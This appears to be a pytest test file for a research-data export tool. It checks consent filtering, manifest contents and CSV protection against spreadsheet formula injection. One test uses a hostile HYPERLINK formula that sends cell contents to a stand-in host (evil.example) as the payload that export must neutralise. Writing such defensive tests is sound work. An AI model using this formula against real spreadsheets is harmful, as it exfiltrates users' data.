"""`engagement export` and the researcher's download: research consent only, safe CSV cells, a
manifest that describes the run from its row alone."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import datetime, timedelta, timezone

import pandas as pd
import pytest
from sqlalchemy import insert, update

from engagement.app.export import export_session, neutralise_formula
from engagement.core import schema
from engagement.core.config import AnalysisOptions, settings_hash
from engagement.core.repositories import runs as run_rows
from engagement.core.store import Store
from engagement.temporal.run_config import run_settings
from engagement.vision.expression import DEFAULT_MODEL
from privacy import consent
from privacy.pseudonym import KeyRing

FORMS = dict(notice_version="v1", language="id", evidence="form")
SOURCE = "3f2a9c0d1e4b5a6f.mp4"  # what runs.source holds: a hash and the suffix, no file name


@pytest.fixture
def store(db_url):
    """Each test on SQLite and on a real PostgreSQL server."""
    s = Store.open(db_url)
    yield s
    s.close()


def add_run(store, session: str, tracks: dict[str, str | None]) -> int:
    """A complete run of `session` with one window (and estimate) per track for seconds 0..1."""
    sid = run_rows.session_id(store, session, cohort="latsar")
    run = run_rows.begin_run(store, sid, mode="file", source=SOURCE, software_version="t", profile="id-pdp",
                             config={"sample_fps": 5}, config_hash="0", models={})
    now = datetime.now(timezone.utc)
    with store.transaction() as conn:
        for label, participant in tracks.items():
            tid = run_rows.add_track(conn, run, label, participant, 0)
            for second in (0, 1):
                conn.execute(insert(schema.window_features).values(
                    run_id=run, track_id=tid, second=second, created_at=now, n_frames=5, n_face=5,
                    present_ratio=1.0, blinks=0))
                conn.execute(insert(schema.engagement_estimates).values(
                    run_id=run, track_id=tid, second=second, created_at=now, state="present", score=0.5))
        conn.execute(update(schema.runs).where(schema.runs.c.id == run).values(status="complete"))
    return run


def pseudonym(store, who: str) -> str:
    return KeyRing(store).pseudonym(who, "latsar")


@pytest.fixture
def class_of_five(store):
    """siti: both scopes; budi: facilitator feedback only; ani: withdrew research only; dewi: withdrew
    everything (a late row remained); one attested track (attestation for facilitator feedback)."""
    consent.grant(store, "siti@x.id", cohort="latsar", scopes=["facilitator_feedback", "research"], **FORMS)
    consent.grant(store, "budi@x.id", cohort="latsar", **FORMS)
    consent.grant(store, "ani@x.id", cohort="latsar", scopes=["facilitator_feedback", "research"], **FORMS)
    consent.grant(store, "dewi@x.id", cohort="latsar", scopes=["facilitator_feedback", "research"], **FORMS)
    run_rows.session_id(store, "kelas", cohort="latsar")
    consent.attest(store, "kelas", facilitator="wi@x.id", **FORMS)
    people = {"T1": pseudonym(store, "siti@x.id"), "T2": pseudonym(store, "budi@x.id"),
              "T3": pseudonym(store, "ani@x.id"), "T4": pseudonym(store, "dewi@x.id"),
              "T5": KeyRing(store).attested_pseudonym("latsar", "kelas", "T5")}
    consent.withdraw(store, "ani@x.id", cohort="latsar", scopes=["research"])
    consent.withdraw(store, "dewi@x.id", cohort="latsar")
    add_run(store, "kelas", people)
    return people


def test_export_keeps_only_research_consented_people(store, class_of_five, tmp_path, capsys):
    from engagement.cli.main import main

    assert main(["export", "kelas", "--db", store.url, "--out", str(tmp_path)]) == 0
    capsys.readouterr()
    data = pd.read_csv(tmp_path / "kelas.csv")
    assert set(data["participant"]) == {class_of_five["T1"]}
    assert list(data["track"]) == ["T1", "T1"]
    manifest = json.loads((tmp_path / "kelas.manifest.json").read_text())
    assert manifest["consent"]["participants_included"] == 1
    assert manifest["consent"]["participants_excluded"] == 4
    assert manifest["consent"]["excluded_because"] == {"no_research_consent": 3, "no_active_consent": 1}
    assert "research" in manifest["consent"]["rule"]
    assert manifest["data"]["rows"] == 2


def test_attested_tracks_follow_their_own_sessions_attestation(store, tmp_path):
    for name, scopes in (("riset", ["facilitator_feedback", "research"]), ("umpan-balik", None)):
        run_rows.session_id(store, name, cohort="latsar")
        consent.attest(store, name, facilitator="wi@x.id", scopes=scopes, **FORMS)
        add_run(store, name, {label: KeyRing(store).attested_pseudonym("latsar", name, label) for label in ("T1", "T2")})
    assert export_session(store, "riset", "csv", tmp_path).rows == 4
    result = export_session(store, "umpan-balik", "csv", tmp_path)
    assert result.rows == 0 and result.excluded == 2
    consent.withdraw_attestation(store, "riset")
    add_run(store, "riset", {"T1": KeyRing(store).attested_pseudonym("latsar", "riset", "T1")})  # a later run
    assert export_session(store, "riset", "csv", tmp_path).rows == 0


def test_dashboard_download_applies_the_same_rule(store, class_of_five):
    from dashboard import services

    bundle = services.export_bundle(store, ["kelas"], "csv", "dashboard:peneliti")
    with zipfile.ZipFile(io.BytesIO(bundle)) as zf:
        data = pd.read_csv(zf.open("kelas.csv"))
        manifest = json.loads(zf.read("kelas.manifest.json"))
    assert set(data["participant"]) == {class_of_five["T1"]}
    assert manifest["consent"]["participants_excluded"] == 4


@pytest.mark.parametrize("text", ["=HYPERLINK(\"http://x\",\"klik\")", "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_formula_prefixes_are_neutralised(text):
    assert neutralise_formula(text) == "'" + text
    assert neutralise_formula("Latsar " + text) == "Latsar " + text
    assert neutralise_formula(-0.5) == -0.5


def test_csv_cells_cannot_run_as_formulas(store, tmp_path):
    session = '=HYPERLINK("http://evil.example/?d="&A1,"Buka")'
    consent.grant(store, "siti@x.id", cohort="latsar", scopes=["facilitator_feedback", "research"], **FORMS)
    add_run(store, session, {"T1": pseudonym(store, "siti@x.id")})
    result = export_session(store, session, "csv", tmp_path)
    with open(result.data, newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert rows and all(r["session"] == "'" + session for r in rows)
    # Every text cell of every row: none starts with a formula prefix; numbers stay numbers.
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")) and not (value.startswith("-") and not _number(value))
    assert json.loads(result.manifest.read_text())["session"] == session  # JSON is not a spreadsheet
    # Parquet keeps the value as it is (typed columns, no formulas).
    parquet = export_session(store, session, "parquet", tmp_path)
    assert set(pd.read_parquet(parquet.data)["session"]) == {session}


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_manifest_describes_the_run_from_its_row_only(store, tmp_path):
    consent.grant(store, "siti@x.id", cohort="latsar", scopes=["facilitator_feedback", "research"], **FORMS)
    run = add_run(store, "kelas", {"T1": pseudonym(store, "siti@x.id")})
    result = export_session(store, "kelas", "csv", tmp_path)
    manifest = json.loads(result.manifest.read_text())
    assert manifest["run"]["id"] == run and manifest["run"]["source"] == SOURCE
    assert manifest["config"] == {"sample_fps": 5}
    # No path anywhere in the manifest; its only file names are the export's own files.
    assert not [v for v in _strings(manifest) if "/" in v or "\\" in v]
    assert {manifest["data"]["file"], manifest["schema"]["file"]} == {"kelas.csv", "kelas.schema.json"}


def _strings(value):
    if isinstance(value, dict):
        for item in value.values():
            yield from _strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from _strings(item)
    elif isinstance(value, str):
        yield value


def test_consent_granted_after_the_export_moment_does_not_count(store, tmp_path):
    later = datetime.now(timezone.utc) + timedelta(days=1)
    consent.grant(store, "siti@x.id", cohort="latsar", scopes=["facilitator_feedback"], **FORMS)
    consent.grant(store, "siti@x.id", cohort="latsar", scopes=["research"], at=later, **FORMS)
    add_run(store, "kelas", {"T1": pseudonym(store, "siti@x.id")})
    result = export_session(store, "kelas", "csv", tmp_path)
    assert result.rows == 0 and result.excluded == 1


def test_manifest_lists_the_full_run_record_and_its_hash_can_be_recomputed(store, tmp_path):
    record = run_settings(AnalysisOptions(sample_fps=5))
    sid = run_rows.session_id(store, "rekam", cohort="latsar")
    run = run_rows.begin_run(store, sid, mode="file", source=SOURCE, software_version="t", profile="id-pdp",
                             config=record, config_hash=settings_hash(record), models={})
    with store.transaction() as conn:
        conn.execute(update(schema.runs).where(schema.runs.c.id == run).values(status="complete"))
    manifest = json.loads(export_session(store, "rekam", "csv", tmp_path).manifest.read_text())
    config = manifest["config"]
    assert config["temporal"]["segment_s"] == 30 and config["k_min"] == 3 and config["attention"]["margin_deg"] == 3.0
    assert set(config["models"]) == {"face-landmarker", DEFAULT_MODEL, "engagement-linear.v2"}
    assert settings_hash(config) == manifest["config_hash"]  # a reader can check the record against the hash
    assert "sorted keys" in manifest["config_hash_method"]
